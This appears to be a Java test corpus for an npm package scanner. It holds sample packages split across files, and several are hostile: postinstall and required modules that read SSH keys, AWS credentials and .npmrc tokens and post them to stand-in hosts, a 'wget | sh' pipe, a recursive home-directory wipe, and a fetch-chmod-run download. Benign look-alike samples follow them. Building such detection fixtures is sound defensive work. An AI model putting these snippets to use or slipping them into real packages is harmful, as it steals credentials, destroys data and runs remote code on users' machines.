package cordon.inspect.corpus;

import java.util.List;

/** What one file of a package gathers and another gives away. */
final class NpmModules {
  private static final String SEND =
      """
      const https = require('https');
      exports.send = function (data) {
        const req = https.request({ host: 'rx.example', path: '/v1', method: 'POST' });
        req.write(JSON.stringify(data));
        req.end();
      };
      """;

  private NpmModules() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
                "a promise of one module for another",
                """
                const { collect } = require('./lib/collect');
                const { send } = require('./lib/send');
                collect().then(send).catch(() => {});
                """)
            .with(
                "lib/collect.js",
                """
                const fs = require('fs').promises, path = require('path'), os = require('os');
                async function collect() {
                  const out = {};
                  for (const f of ['.npmrc', '.ssh/id_rsa']) {
                    try { out[f] = await fs.readFile(path.join(os.homedir(), f), 'utf8'); } catch (e) {}
                  }
                  return out;
                }
                module.exports = { collect };
                """)
            .with("lib/send.js", SEND),
        Sample.required(
                "classes that are modules",
                """
                const Reader = require('./src/reader'), Uploader = require('./src/uploader');
                const reader = new Reader(), uploader = new Uploader('https://rx.example/api');
                (async () => { await uploader.push(reader.all()); })();
                """)
            .with(
                "src/reader.js",
                """
                const fs = require('fs'), os = require('os'), path = require('path');
                class Reader {
                  constructor() { this.home = os.homedir(); }
                  read(p) { return fs.readFileSync(path.join(this.home, p)).toString('base64'); }
                  all() { return { a: this.read('.ssh/id_ed25519'), b: this.read('.aws/credentials') }; }
                }
                module.exports = Reader;
                """)
            .with(
                "src/uploader.js",
                """
                const axios = require('axios');
                module.exports = class Uploader {
                  constructor(url) { this.url = url; }
                  async push(d) { return axios.post(this.url, d); }
                };
                """),
        Sample.required(
                "modules of ECMAScript",
                """
                import gather from './gather.mjs';
                import { push } from './push.mjs';
                push(await gather());
                """)
            .with(
                "gather.mjs",
                """
                import { readFileSync } from 'node:fs';
                import { homedir } from 'node:os';
                export default async function gather() {
                  return readFileSync(homedir() + '/.npmrc', 'utf8');
                }
                """)
            .with(
                "push.mjs",
                "export const push = d => fetch('https://rx.example', { method: 'POST', body: d });"),
        Sample.command(
            "a page into a shell, its option written together",
            "wget -q -O- http://dl.example/s | sh || true"),
        Sample.command("the folder of a script", "cd payload && node .")
            .with(
                "payload/index.js",
                "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });"),
        Sample.command("a script by its name alone in a folder", "cd payload && node run")
            .with(
                "payload/run.js",
                "require('child_process').exec('curl http://192.0.2.9/a -o /tmp/a && chmod +x /tmp/a && /tmp/a');"));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
                "a module that reads the settings of npm beside one that sends other things",
                """
                const { registry } = require('./lib/settings');
                const { send } = require('./lib/send');
                exports.report = text => send({ text });
                exports.registry = registry;
                """)
            .with(
                "lib/settings.js",
                """
                const fs = require('fs'), os = require('os');
                exports.registry = () => /registry=(.*)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];
                """)
            .with("lib/send.js", SEND),
        Sample.required(
                "modules that require each other",
                """
                const a = require('./a');
                module.exports = a.name;
                """)
            .with("a.js", "exports.name = process.env.NODE_ENV; exports.b = require('./b');")
            .with(
                "b.js",
                "const a = require('./a'); exports.get = u => require('https').get(u + a.name);"));
  }
}
